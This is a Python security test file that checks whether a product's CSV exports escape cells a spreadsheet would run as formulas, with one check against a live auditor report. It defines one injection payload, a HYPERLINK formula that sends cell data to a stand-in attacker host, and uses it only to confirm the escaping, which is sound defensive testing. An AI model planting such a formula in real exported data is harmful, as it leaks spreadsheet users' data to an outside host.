"""Medium: CSV formula injection. Every CSV the product writes escapes cells that a spreadsheet would run."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from exportctl.csv_cells import FORMULA_TRIGGERS, SafeDictWriter, SafeWriter, safe_cell
from tests.security.flow import licence
from tests.security.live import LiveService

SRC = Path(__file__).resolve().parents[2] / "src" / "exportctl"
PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@given(st.text())
def test_no_cell_starts_a_formula_and_nothing_is_lost(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_TRIGGERS) or cell.lstrip("+-").replace(".", "", 1).isdigit()
    assert cell in (text, "'" + text)


@given(st.lists(st.lists(st.text(), max_size=4), max_size=4))
def test_writers_escape_every_cell(rows: list[list[str]]) -> None:
    plain, dicts = io.StringIO(newline=""), io.StringIO(newline="")
    SafeWriter(plain).writerows(rows)
    writer = SafeDictWriter(dicts, fieldnames=["a"])
    writer.writerows({"a": cell} for row in rows for cell in row)
    for row in csv.reader(io.StringIO(plain.getvalue())):
        assert all(cell == safe_cell(cell) or cell.startswith("'") for cell in row)
    assert [r["a"] for r in csv.DictReader(io.StringIO("a\n" + dicts.getvalue()))] == [
        safe_cell(cell) for row in rows for cell in row
    ]


def test_signed_numbers_stay_numbers() -> None:
    given = ("-12.50", "+3", "-", "@x", "\t1", "=1+1", "\r=2")
    assert [safe_cell(v) for v in given] == ["-12.50", "+3", "'-", "'@x", "'\t1", "'=1+1", "'\r=2"]


def test_only_the_one_place_makes_csv_writers() -> None:
    """``csv.writer``/``csv.DictWriter`` appear only in ``exportctl/csv_cells.py`` (and in the OFAC parser, which
    rebuilds source lines it read, not output)."""
    found = []
    for path in SRC.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                if isinstance(node.value, ast.Name) and node.value.id == "csv":
                    found.append(path.relative_to(SRC).as_posix())
    assert sorted(set(found)) == ["csv_cells.py", "lists/sources/ofac_sdn.py"]


def test_the_oversight_report_csv_escapes_party_names(live: LiveService) -> None:
    licence(live, end_user=PAYLOAD)
    with live.client("auditor") as auditor:
        report = auditor.get("/api/reports/licences", params={"format": "csv", "by": "party,outcome"})
    assert report.status_code == 200, report.text
    cells = [cell for row in csv.reader(io.StringIO(report.text)) for cell in row]
    assert "'" + PAYLOAD in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
